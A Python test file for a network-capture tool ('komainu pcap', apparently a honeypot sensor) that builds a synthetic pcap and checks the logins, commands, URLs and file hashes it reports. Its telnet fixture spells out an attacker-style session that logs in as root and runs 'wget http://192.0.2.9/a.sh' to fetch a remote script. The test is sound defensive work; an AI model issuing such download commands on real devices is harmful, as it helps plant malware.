"""Reading captures: what `komainu pcap` prints of conversations that are written into a capture here."""

import contextlib
import hashlib
import json
import shutil
import socket
import struct
import subprocess

from harness import KOMAINU, check, equal, run

CLIENT, SERVER = "198.51.100.7", "192.0.2.1"
UPLOAD = b"interval=300\n" * 200
FORM = (
    b'--limit\r\nContent-Disposition: form-data; name="file"; filename="agent.cfg"\r\n\r\n' + UPLOAD + b"\r\n--limit--\r\n"
)
HTTP = [
    (True, b"POST /upload HTTP/1.1\r\nHost: camera\r\nAuthorization: Basic YWRtaW46ZXhhbXBsZS1zZWNyZXQ=\r\n"
     b"Content-Type: multipart/form-data; boundary=limit\r\nContent-Length: %d\r\n\r\n" % len(FORM) + FORM),
    (False, b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok"),
]
TELNET = [
    (False, b"camera login: "), (True, b"root\r\n"), (False, b"root\r\nPassword: "), (True, b"example-secret\r\n"),
    (False, b"\r\n\r\n~ # "), (True, b"wget http://192.0.2.9/a.sh\r\n"), (False, b"wget http://192.0.2.9/a.sh\r\n~ # "),
    (True, b"exit\r\n"),
]


def conversation(client_port, server_port, said):
    """The frames of a TCP connection, of which every second data segment of the client comes late."""
    ends = {True: (CLIENT, client_port), False: (SERVER, server_port)}
    following, frames, late = {True: 100, False: 500}, [], None

    def segment(by_client, flags, payload=b""):
        source, destination = ends[by_client], ends[not by_client]
        acknowledged = following[not by_client] if flags & 16 else 0
        tcp = struct.pack("!HHIIBBHHH", source[1], destination[1], following[by_client], acknowledged, 80, flags, 8192, 0, 0)
        body = tcp + payload
        addresses = socket.inet_aton(source[0]) + socket.inet_aton(destination[0])
        ip = struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(body), 0, 0, 64, 6, 0) + addresses
        following[by_client] += len(payload) + bool(flags & 3)
        return ip + body

    frames += [segment(True, 2), segment(False, 18), segment(True, 16)]
    for by_client, text in said:
        pieces = [segment(by_client, 24, text[at : at + 700]) for at in range(0, len(text), 700)]
        for first, second in zip(pieces[::2], pieces[1::2] + [None] * (len(pieces) % 2)):
            frames += [piece for piece in (second, first) if piece]
    return frames + [segment(True, 17), segment(False, 17), segment(True, 16)]


def capture(frames):
    """A pcap file of raw IP packets (link type 101)."""
    head = struct.pack("<IHHiIII", 0xA1B2C3D4, 2, 4, 0, 0, 65535, 101)
    records = (struct.pack("<IIII", 1_700_000_000, at * 1000, len(x), len(x)) + x for at, x in enumerate(frames))
    return head + b"".join(records)


@contextlib.contextmanager
def folder(path):
    shutil.rmtree(path, ignore_errors=True)
    path.mkdir(parents=True)

    class Place:
        log = path / "komainu.log"

    place = Place()
    place.path = path
    place.log.write_text("")
    place.file = path / "attack.pcap"
    place.file.write_bytes(capture(conversation(40000, 80, HTTP) + conversation(40001, 23, TELNET)))
    yield place


def pcap(*arguments, status=0, given=None):
    done = subprocess.run([KOMAINU, "pcap", *arguments], capture_output=True, input=given, check=False)
    equal(done.returncode, status, done.stderr.decode())
    return [json.loads(line) for line in done.stdout.splitlines()], done.stderr.decode()


@check
def everything_is_printed_once(place):
    lines, said = pcap(place.file)
    equal("2 flows, 2 of them decoded" in said, True, said)
    kinds = [line["event_type"] for line in lines]
    for kind, count in {"http": 1, "login": 2, "command": 2, "url": 1, "flow": 2, "honeypot": 2, "anomaly": 0}.items():
        equal(kinds.count(kind), count, f"{kind}: {kinds}")
    logins = [line["login"] for line in lines if line["event_type"] == "login"]
    equal([(login["user"], login["accepted"]) for login in logins], [("admin", True), ("root", True)])
    equal(len({login["password_hmac_sha256"] for login in logins}), 1, "equal passwords look equal")
    [file] = [line["fileinfo"] for line in lines if line.get("fileinfo", {}).get("filename") == "agent.cfg"]
    equal((file["sha256"], file["size"]), (hashlib.sha256(UPLOAD).hexdigest(), len(UPLOAD)))
    equal(b"example-secret" in json.dumps(lines).encode(), False, "passwords are not shown")
    equal([line["url"]["url"] for line in lines if line["event_type"] == "url"], ["http://192.0.2.9/a.sh"])


@check
def passwords_are_shown_when_asked_for(place):
    lines, _ = pcap(place.file, "--clear-passwords")
    equal({line["login"]["password"] for line in lines if line["event_type"] == "login"}, {"example-secret"})


@check
def from_the_standard_input_and_into_a_folder(place):
    out = place.path / "out"
    lines, _ = pcap("-", "--out", out, given=place.file.read_bytes())
    equal(lines, [])
    equal(sorted(path.name for path in out.iterdir() if path.suffix == ".json"), ["eve.json", "honeypot.json"])
    digest = hashlib.sha256(UPLOAD).hexdigest()
    [kept] = [path for path in (out / "artifacts").rglob("*") if path.name == digest]
    equal((UPLOAD[:20] in kept.read_bytes(), oct(kept.stat().st_mode & 0o777)), (False, "0o600"))
    exported = place.path / "agent.cfg"
    command = [KOMAINU, "sensor", "artifacts", "export", digest, "--out", exported, "--data", out]
    subprocess.run(command, check=True, stdout=subprocess.DEVNULL)
    equal(exported.read_bytes() == UPLOAD, True, "the file comes out as it was sent")


@check
def a_damaged_capture_is_read_up_to_the_damage(place):
    whole = place.file.read_bytes()
    damaged = place.path / "damaged.pcap"
    damaged.write_bytes(whole[:-400] + b"\xff" * 400)
    lines, said = pcap(damaged, status=1)
    equal("the file is damaged" in said and "what comes before is recorded" in said, True, said)
    equal(any(line["event_type"] == "http" for line in lines), True)
    damaged.write_bytes(whole[:-5])
    equal("bytes at the end are no whole record" in pcap(damaged)[1], True)
    damaged.write_bytes(b"GET / HTTP/1.1\r\n\r\n")
    equal("not a capture file" in pcap(damaged, status=1)[1], True)
    equal("cannot open" in pcap(place.path / "nothing", status=1)[1], True)


run(kind=folder)
